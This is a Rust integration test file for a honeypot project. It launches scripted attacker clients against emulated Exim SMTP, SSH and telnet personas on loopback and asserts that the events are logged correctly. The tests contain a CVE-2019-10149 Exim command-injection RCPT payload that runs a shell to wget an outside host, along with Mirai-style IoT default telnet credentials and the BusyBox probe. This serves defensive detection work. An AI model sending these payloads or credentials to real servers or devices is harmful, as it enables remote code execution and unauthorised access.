//! Every file in examples/ validates and builds; the port-26 example holds a real SMTP
//! conversation with Python's smtplib.

use std::path::{Path, PathBuf};

use crate::common::*;
use honeyport_event::{EndReason, EventKind};

fn examples_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../examples")
}

#[test]
fn every_example_validates_and_builds() {
    let mut n = 0;
    for entry in std::fs::read_dir(examples_dir()).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().and_then(|e| e.to_str()) != Some("toml") {
            continue;
        }
        let v = honeyport::config::load(&path)
            .unwrap_or_else(|e| panic!("{} is invalid:\n{e}", path.display()));
        assert!(v.socket_count() > 0, "{} binds nothing", path.display());
        v.build()
            .unwrap_or_else(|e| panic!("{} does not build:\n{e}", path.display()));
        n += 1;
    }
    assert!(
        n >= 2,
        "expected at least port26.toml and scripted.toml, found {n}"
    );
}

/// The example's text with every listener moved to a free loopback port.
fn on_loopback(src: &str) -> String {
    src.lines()
        .map(|l| {
            let t = l.trim_start();
            if t.starts_with("ports =") {
                "ports = 0".to_string()
            } else if t.starts_with("bind =") {
                "bind = [\"127.0.0.1\"]".to_string()
            } else {
                l.to_string()
            }
        })
        .collect::<Vec<_>>()
        .join("\n")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn port26_lab_scripted_exim_dialogue_speaks_smtp_to_python_smtplib() {
    let src = std::fs::read_to_string(examples_dir().join("port26.toml")).unwrap();
    let s = start_in(&on_loopback(&src), &examples_dir()).await;
    let addr = s.tcp("scripted2526");
    let script = format!(
        r#"
import smtplib
s = smtplib.SMTP("127.0.0.1", {port}, timeout=10)
code, msg = s.ehlo("scanner.example")
assert code == 250 and b"PIPELINING" in msg, (code, msg)
assert s.has_extn("size") and s.has_extn("auth"), s.esmtp_features
s.sendmail("probe@example.org", ["victim@example.com"], "Subject: test\r\n\r\nport 26 probe\r\n")
s.quit()
"#,
        port = addr.port()
    );
    let out = tokio::process::Command::new("python3")
        .arg("-c")
        .arg(&script)
        .output()
        .await
        .expect("python3 runs");
    assert!(
        out.status.success(),
        "smtplib failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );

    let done = s.stop().await;
    done.assert_paired();
    let sessions = done.sessions();
    assert_eq!(sessions.len(), 1);
    let sess = &sessions[0];
    let sent = output_of(sess);
    assert!(
        sent.starts_with(b"220 mail.example.com ESMTP Exim 4.92 #2 "),
        "{}",
        String::from_utf8_lossy(&sent)
    );
    assert_eq!(
        rules_of(sess),
        vec!["EHLO", "MAIL", "RCPT", "DATA", "END-OF-DATA", "QUIT"]
    );
    let got = input_of(sess);
    assert!(contains(&got, b"ehlo scanner.example\r\n"));
    assert!(contains(&got, b"mail FROM:<probe@example.org>"));
    assert!(contains(&got, b"port 26 probe\r\n.\r\n"));
    assert_eq!(end_of(sess).0, EndReason::Persona);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn port26_lab_exim_smtp_and_busybox_telnet_on_their_own_ports() {
    let src = std::fs::read_to_string(examples_dir().join("port26.toml")).unwrap();
    let s = start_in(&on_loopback(&src), &examples_dir()).await;
    let smtp = s.tcp("smtp26");
    // A mail bot on 26: STARTTLS, a password guess, then the Exim RCE shape of 2019.
    let script = format!(
        r#"
import smtplib, ssl
s = smtplib.SMTP("127.0.0.1", {port}, timeout=10)
s.ehlo("bot.example")
s.starttls(context=ssl._create_unverified_context())
s.ehlo("bot.example")
try:
    s.login("admin", "hunter2")
    raise SystemExit("AUTH accepted")
except smtplib.SMTPAuthenticationError:
    pass
s.mail("<>")
code, msg = s.rcpt("<${{run{{\\x2fbin\\x2fsh\\t-c\\t\\x22wget\\x2010.0.0.1\\x22}}}}@localhost>")
s.quit()
"#,
        port = smtp.port()
    );
    let out = run_client(
        tokio::process::Command::new("python3")
            .arg("-c")
            .arg(&script),
    )
    .await;
    assert!(
        out.status.success(),
        "smtplib: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    // paramiko-style SSH probe on 26: it speaks first and gets the SSH persona.
    let ssh = run_client(sshpass("s3cr3t-guess", smtp).args([
        "-o",
        "PreferredAuthentications=password",
        "admin@127.0.0.1",
        "true",
    ]))
    .await;
    assert_eq!(
        ssh.status.code(),
        Some(5),
        "{}",
        String::from_utf8_lossy(&ssh.stderr)
    );
    // A telnet bot on 23: IoT default credentials, then the BusyBox check.
    let tel = s.tcp("telnet23");
    let mut c = connect(tel).await;
    let hello = read_until(&mut c, b"login: ").await;
    assert_eq!(hello[0], 0xff, "telnet speaks IAC first");
    send(&mut c, b"root\r\n").await;
    read_until(&mut c, b"Password: ").await;
    send(&mut c, b"xc3511\r\n").await;
    read_until(&mut c, b"# ").await;
    send(&mut c, b"/bin/busybox ECCHI\r\n").await;
    read_until(&mut c, b"ECCHI: applet not found").await;
    drop(c);

    let done = s.stop().await;
    done.assert_paired();
    let all = done.all();
    let by_port = |p: u16| -> Vec<&honeyport_event::Event> {
        all.iter().filter(|e| e.dst_port == p).collect()
    };
    let mail: Vec<_> = by_port(smtp.port());
    let out: Vec<u8> = mail
        .iter()
        .filter_map(|e| match &e.kind {
            EventKind::Output { data, .. } => Some(data.0.clone()),
            _ => None,
        })
        .flatten()
        .collect();
    assert!(
        out.starts_with(b"220 mail.example.com ESMTP Exim 4.92"),
        "{}",
        String::from_utf8_lossy(&out)
    );
    let kinds: Vec<_> = mail.iter().map(|e| e.kind.eventid()).collect();
    assert!(kinds.contains(&"tls.handshake"), "{kinds:?}");
    assert!(mail.iter().any(|e| matches!(&e.kind,
        EventKind::LoginFailed { username, password, .. }
            if username.0 == b"admin" && password.0 == b"hunter2")));
    assert!(mail.iter().any(|e| matches!(&e.kind,
        EventKind::RuleMatch { rule, .. } if rule == "CVE-2019-10149")));
    assert!(mail.iter().any(|e| matches!(&e.kind,
        EventKind::Dispatch { persona, reason, .. } if persona == "openssh" && reason == "detected")));
    assert!(mail.iter().any(|e| matches!(&e.kind,
        EventKind::LoginFailed { username, method, .. }
            if username.0 == b"admin" && method == "ssh-password")));
    let telnet: Vec<_> = by_port(tel.port());
    assert!(telnet.iter().any(|e| matches!(&e.kind,
        EventKind::LoginSuccess { username, password, .. }
            if username.0 == b"root" && password.0 == b"xc3511")));
    assert!(telnet.iter().any(|e| matches!(&e.kind,
        EventKind::CommandInput { input, .. } if input.0 == b"/bin/busybox ECCHI")));
}
